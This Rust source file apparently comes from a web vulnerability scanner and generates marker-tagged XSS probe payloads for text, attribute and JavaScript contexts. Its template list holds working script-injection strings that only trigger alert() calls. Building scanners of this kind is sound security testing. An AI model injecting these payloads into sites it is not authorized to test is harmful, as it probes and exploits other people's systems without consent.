// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! XSS payload catalog

use rand::distr::{Alphanumeric, Distribution};
use rand::Rng;
use serde::{Deserialize, Serialize};

use super::ContextTag;

/// Version of the template lists below; bump on any template change
pub const TEMPLATE_VERSION: u32 = 1;

/// Default marker length
pub const DEFAULT_MARKER_LENGTH: usize = 6;

/// Placeholder replaced by the run marker
const MARKER_SLOT: &str = "{m}";

const TEXT_TEMPLATES: &[&str] = &[
    "<script>/*{m}*/alert(1)</script>",
    "XSS\"> <b>{m}</b><script>alert(2)</script>",
];

const ATTR_VALUE_TEMPLATES: &[&str] = &[
    "\" autofocus onfocus=alert(3) x=\"{m}",
    "' onmouseover=alert(4) '{m}",
];

const ATTR_NAME_TEMPLATES: &[&str] = &["onerror=alert(5){m}", "onclick=alert(6){m}"];

const JS_TEMPLATES: &[&str] = &["';alert(7);//{m}", "\";alert(8);//{m}"];

fn templates(tag: ContextTag) -> &'static [&'static str] {
    match tag {
        ContextTag::Text => TEXT_TEMPLATES,
        ContextTag::AttrValue => ATTR_VALUE_TEMPLATES,
        ContextTag::AttrName => ATTR_NAME_TEMPLATES,
        ContextTag::Js => JS_TEMPLATES,
    }
}

/// One payload of a scan run
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Payload {
    /// The literal text injected into the parameter
    pub text: String,
    /// Context the payload targets; `None` for the baseline
    pub context: Option<ContextTag>,
    /// Run marker embedded in `text`
    pub marker: String,
}

impl Payload {
    /// Marker-only payload used for presence detection
    pub fn baseline(marker: impl Into<String>) -> Self {
        let marker = marker.into();
        Self {
            text: marker.clone(),
            context: None,
            marker,
        }
    }

    /// Check if this is the baseline payload
    pub fn is_baseline(&self) -> bool {
        self.context.is_none()
    }

    /// Context label for display
    pub fn context_label(&self) -> &'static str {
        self.context.map(|c| c.as_str()).unwrap_or("baseline")
    }
}

/// Payload catalog for one scan run
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    contexts: Vec<ContextTag>,
    marker_length: usize,
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::new(&ContextTag::ALL)
    }
}

impl PayloadCatalog {
    /// Create a catalog for the given tags (all tags when empty)
    ///
    /// Duplicates collapse and tags are kept in canonical order, so the
    /// payload sequence does not depend on how the caller listed them.
    pub fn new(contexts: &[ContextTag]) -> Self {
        let contexts = if contexts.is_empty() {
            ContextTag::ALL.to_vec()
        } else {
            ContextTag::ALL
                .into_iter()
                .filter(|tag| contexts.contains(tag))
                .collect()
        };

        Self {
            contexts,
            marker_length: DEFAULT_MARKER_LENGTH,
        }
    }

    /// Set marker length (at least 1)
    pub fn marker_length(mut self, length: usize) -> Self {
        self.marker_length = length.max(1);
        self
    }

    /// Get the selected tags
    pub fn contexts(&self) -> &[ContextTag] {
        &self.contexts
    }

    /// Number of payloads `generate` will return
    pub fn len(&self) -> usize {
        1 + self
            .contexts
            .iter()
            .map(|tag| templates(*tag).len())
            .sum::<usize>()
    }

    /// Always false: the baseline payload is always present
    pub fn is_empty(&self) -> bool {
        false
    }

    /// Draw a fresh marker and build the payload sequence
    ///
    /// The baseline comes first, then each tag's templates in order.
    pub fn generate<R: Rng + ?Sized>(&self, rng: &mut R) -> Vec<Payload> {
        let marker = generate_marker(rng, self.marker_length);
        self.with_marker(&marker)
    }

    /// Build the payload sequence around a known marker
    pub fn with_marker(&self, marker: &str) -> Vec<Payload> {
        let mut payloads = Vec::with_capacity(self.len());
        payloads.push(Payload::baseline(marker));

        for tag in &self.contexts {
            payloads.extend(templates(*tag).iter().map(|template| Payload {
                text: template.replace(MARKER_SLOT, marker),
                context: Some(*tag),
                marker: marker.to_string(),
            }));
        }

        payloads
    }
}

/// Random ASCII alphanumeric marker
pub fn generate_marker<R: Rng + ?Sized>(rng: &mut R, length: usize) -> String {
    (0..length)
        .map(|_| char::from(Alphanumeric.sample(rng)))
        .collect()
}

/// Generate the payload set for the given tags and marker length
pub fn generate<R: Rng + ?Sized>(
    contexts: &[ContextTag],
    marker_length: usize,
    rng: &mut R,
) -> Vec<Payload> {
    PayloadCatalog::new(contexts)
        .marker_length(marker_length)
        .generate(rng)
}
